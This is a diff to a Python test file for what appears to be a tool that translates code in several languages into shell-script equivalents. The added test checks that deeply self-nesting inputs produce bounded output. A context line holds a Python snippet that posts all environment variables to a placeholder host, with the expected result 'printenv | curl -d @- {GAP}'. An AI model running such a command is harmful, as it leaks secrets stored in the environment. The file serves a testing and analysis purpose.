@@ -569,3 +569,22 @@ def test_a_function_that_is_given_away_is_called(code: str) -> None:
 def test_the_environment_that_is_sent_is_told_as_such() -> None:
     code = 'import os, requests; requests.post("http://x", json=dict(os.environ))'
     assert of("python", code).scripts == (f"printenv | curl -d @- {GAP}",)
+
+
+@pytest.mark.parametrize(
+    ("language", "code"),
+    [
+        ("powershell", "iex " * 4000),
+        ("tcl", "eval " * 3000),
+        ("vim", "g/x/" * 4000),
+        ("vim", "norm :" * 2500),
+        ("python", "x = [x]\n" * 2000),
+        ("python", "exec('" * 2000),
+        ("perl", "$a .= $a;" * 1800),
+        ("node", "a = 'x';" + "a = a + a;" * 1600),
+        ("ruby", '"#{' * 5000),
+        ("sql:mysql", "execute '" * 1500),
+    ],
+)
+def test_code_that_folds_into_itself_ends(language: str, code: str) -> None:
+    assert all(len(script) < 20_000 for script in of(language, code).scripts)
